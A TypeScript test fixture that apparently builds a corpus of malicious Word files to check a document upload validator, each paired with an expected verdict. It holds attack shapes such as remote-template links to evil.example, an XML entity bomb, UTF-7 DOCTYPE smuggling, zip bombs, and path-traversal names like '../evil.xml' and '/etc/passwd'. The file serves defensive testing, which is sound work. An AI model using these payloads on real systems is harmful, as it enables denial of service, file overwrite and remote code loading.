import { CONTENT_TYPES, docxOf, type ZipPart, zipOf } from '../support/zip.ts';
import type { Hostile } from './corpus.ts';
import { noise, shrinking } from './noise.ts';

type Verdict = Hostile['verdict'];

const MEGABYTE = 1024 * 1024;
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const UNSAFE = 'fileUnsafe';

function docx(what: string, verdict: Verdict, ...parts: ZipPart[] | [() => Buffer]): Hostile {
  const [first] = parts;
  const bytes = typeof first === 'function' ? first : () => docxOf(...(parts as ZipPart[]));
  return { what: `a Word file ${what}`, fileName: 'report.docx', bytes, verdict };
}

function relationship(kind: string, target: string, mode = ' TargetMode="External"'): ZipPart {
  const content = `<Relationships><Relationship Id="r1" Type="${kind}" Target="${target}"${mode}/></Relationships>`;
  return { name: 'word/_rels/document.xml.rels', content };
}

function text(content: string | Buffer): ZipPart {
  return { name: 'word/document.xml', content };
}

const settings = 'word/_rels/settings.xml.rels';
const body = (inside: string) => `<w:document><w:body>${inside}</w:body></w:document>`;
const bomb = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${body('&c;')}`;
const tables = (deep: number) => body('<w:tbl><w:tr><w:tc>'.repeat(deep) + '</w:tc></w:tr></w:tbl>'.repeat(deep));
const utf16 = (content: string) => Buffer.from(`\uFEFF${content}`, 'utf16le');

function longText(size: number): string {
  return body(shrinking(size).toString('hex').slice(0, size));
}

function pictures(count: number, size: number): ZipPart[] {
  return Array.from({ length: count }, (_, at) => ({ name: `word/media/${at}.emf`, content: shrinking(size) }));
}

/** What Word makes of a file with a password: an older Office file that holds nothing but a locked package. */
function lockedByWord(): Buffer {
  const start = Buffer.from('d0cf11e0a1b11ae1', 'hex');
  return Buffer.concat([start, Buffer.alloc(1024), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(1024)]);
}

function overlapping(): Buffer {
  const content = `<a>${'a'.repeat(5_000)}</a>`;
  const at = docxOf().indexOf('PK\u0001\u0002');
  return docxOf({ name: 'word/a.xml', content }, { name: 'word/b.xml', content, claims: { at } });
}

const older = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]);

export const HOSTILE_DOCX: Hostile[] = [
  docx('as it should be', []),
  docx('with a link to a page', [], relationship(`${TYPE}/hyperlink`, 'https://www.un.org/')),
  docx('with a template on a drive of its author', [], {
    name: settings,
    content: relationship(`${TYPE}/attachedTemplate`, 'file:///C:\\letter.dotx').content,
  }),
  docx('with macros', UNSAFE, { name: 'word/vbaProject.bin', content: 'macro' }),
  docx('with macros under another name', UNSAFE, relationship(`${TYPE}/vbaProject`, 'a.xml', '')),
  docx('that calls itself one with macros', UNSAFE, { name: 'word/a.xml', content: '<a t="macroEnabled"/>' }),
  docx('with a template elsewhere', UNSAFE, relationship(`${TYPE}/attachedTemplate`, 'https://evil.example/x.dotm')),
  docx('with a template on a share', UNSAFE, relationship(`${TYPE}/attachedTemplate`, 'file:///\\\\host\\x.dotm')),
  docx('that hides the kind of a link', UNSAFE, relationship(`${TYPE}/attached&#84;emplate`, 'https://evil.example/')),
  docx('with a picture from elsewhere', ['pointsElsewhere'], relationship(`${TYPE}/image`, 'https://evil.example/p')),
  docx('with a script as a link', ['pointsElsewhere'], relationship(`${TYPE}/hyperlink`, 'javascript:alert(1)')),
  docx('with an OLE object', UNSAFE, { name: 'word/embeddings/oleObject1.bin', content: 'object' }),
  docx('with an OLE object under another name', UNSAFE, relationship(`${TYPE}/oleObject`, 'embeddings/a.dat', '')),
  docx('with an older Office file inside', UNSAFE, { name: 'word/embeddings/a.dat', content: older }),
  docx('with a text of another format', UNSAFE, relationship(`${TYPE}/aFChunk`, 'afchunk.rtf', '')),
  docx('with the numbers of a chart', ['filesInside'], {
    name: 'word/embeddings/numbers.xlsx',
    content: zipOf([{ name: 'xl/workbook.xml', content: '<workbook/>' }]),
  }),
  docx('with a locked zip inside', UNSAFE, {
    name: 'word/embeddings/numbers.xlsx',
    content: zipOf([{ name: 'xl/workbook.xml', content: '<workbook/>', flag: 1 }]),
  }),
  docx('with a zip in a zip in a zip', UNSAFE, {
    name: 'word/a.zip',
    content: zipOf([{ name: 'b.zip', content: zipOf([{ name: 'c.txt', content: 'text' }]) }]),
  }),
  docx('with a zip inside that is cut off', UNSAFE, {
    name: 'word/a.zip',
    content: zipOf([{ name: 'a' }]).subarray(0, 40),
  }),
  docx('with macros in a file inside', UNSAFE, {
    name: 'word/embeddings/numbers.xlsm',
    content: zipOf([{ name: 'xl/vbaProject.bin', content: 'macro' }]),
  }),
  docx('with a document type', UNSAFE, text(`<!DOCTYPE x>${body('')}`)),
  docx('with an entity bomb', UNSAFE, text(bomb)),
  docx('with a document type in UTF-16', UNSAFE, text(utf16(bomb))),
  docx('in UTF-16', [], text(utf16(body('Report')))),
  docx('in UTF-7', UNSAFE, text(`<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-`)),
  docx('with 20,000 tables in one another', UNSAFE, text(tables(20_000))),
  docx('with 2,000 tables in one another', ['unread'], text(tables(2_000) + noise(1_000).toString('hex'))),
  docx('with ten tables in one another', [], text(tables(10))),
  docx('with a paragraph of 21 MB', ['unread'], () => docxOf(text(longText(21 * MEGABYTE)))),
  docx('with a paragraph of 100 MB', UNSAFE, () => docxOf(text(longText(100 * MEGABYTE)))),
  docx('with a picture of 25 MB', [], () => docxOf(...pictures(1, 25 * MEGABYTE))),
  docx('with a picture of 25 MB and a byte', UNSAFE, () => docxOf(...pictures(1, 25 * MEGABYTE + 1))),
  docx('with 100 MB of pictures', UNSAFE, () => docxOf(...pictures(5, 20 * MEGABYTE))),
  docx('with 60 MB of pictures and 60 MB in a zip', UNSAFE, () =>
    docxOf(...pictures(3, 20 * MEGABYTE), { name: 'word/a.zip', content: zipOf(pictures(3, 20 * MEGABYTE)) }),
  ),
  docx('that grows more than 200 times', UNSAFE, () => docxOf(text(Buffer.alloc(4 * MEGABYTE, 0x20)))),
  docx('with 2,500 entries', UNSAFE, ...Array.from({ length: 2_500 }, (_, at) => ({ name: `word/p${at}.xml` }))),
  docx('whose entries lie over one another', UNSAFE, overlapping),
  docx('that says it is smaller than it is', UNSAFE, {
    name: 'word/media/a.png',
    content: noise(1_000_000),
    claims: { size: 9 },
  }),
  docx('that says it is larger than it is', UNSAFE, {
    name: 'word/media/a.png',
    content: 'a picture',
    claims: { size: 900 },
  }),
  docx('with data beyond its end', UNSAFE, { name: 'word/a.xml', claims: { size: 1_000_000, packed: 900_000 } }),
  docx('with a name that climbs', UNSAFE, { name: '../evil.xml' }),
  docx('with a name that climbs in Windows', UNSAFE, { name: '..\\evil.xml' }),
  docx('with a name from the root', UNSAFE, { name: '/etc/passwd' }),
  docx('with a symbolic link', UNSAFE, { name: 'word/a.xml', content: '/etc/passwd', mode: 0o120_777 }),
  docx('with a locked part', UNSAFE, { name: 'word/a.xml', flag: 1 }),
  docx('locked by Word', 'fileLocked', lockedByWord),
  docx('with two documents', UNSAFE, { name: 'word/document.xml' }, { name: 'word/document.xml' }),
  docx('with two documents for Windows', UNSAFE, text(body('')), { name: 'word/Document.xml' }),
  docx('cut off', 'fileCutOff', () => docxOf().subarray(0, -30)),
  docx('with its middle cut out', UNSAFE, () => Buffer.concat([docxOf().subarray(0, 60), docxOf().subarray(90)])),
  docx('that is a PDF too', 'fileNotWhatItSays', () => docxOf({ name: '%PDF-1.7' })),
  docx('without a document', 'fileNotWhatItSays', () =>
    zipOf([{ name: '[Content_Types].xml', content: CONTENT_TYPES }]),
  ),
  docx('that is another zip', 'fileNotWhatItSays', () => zipOf([{ name: 'a.txt', content: 'text' }])),
  docx('that is a spreadsheet inside', 'fileNotWhatItSays', {
    name: '[Content_Types].xml',
    content:
      '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
  }),
  docx('that is an older Office file', 'fileNotWhatItSays', () => older),
];
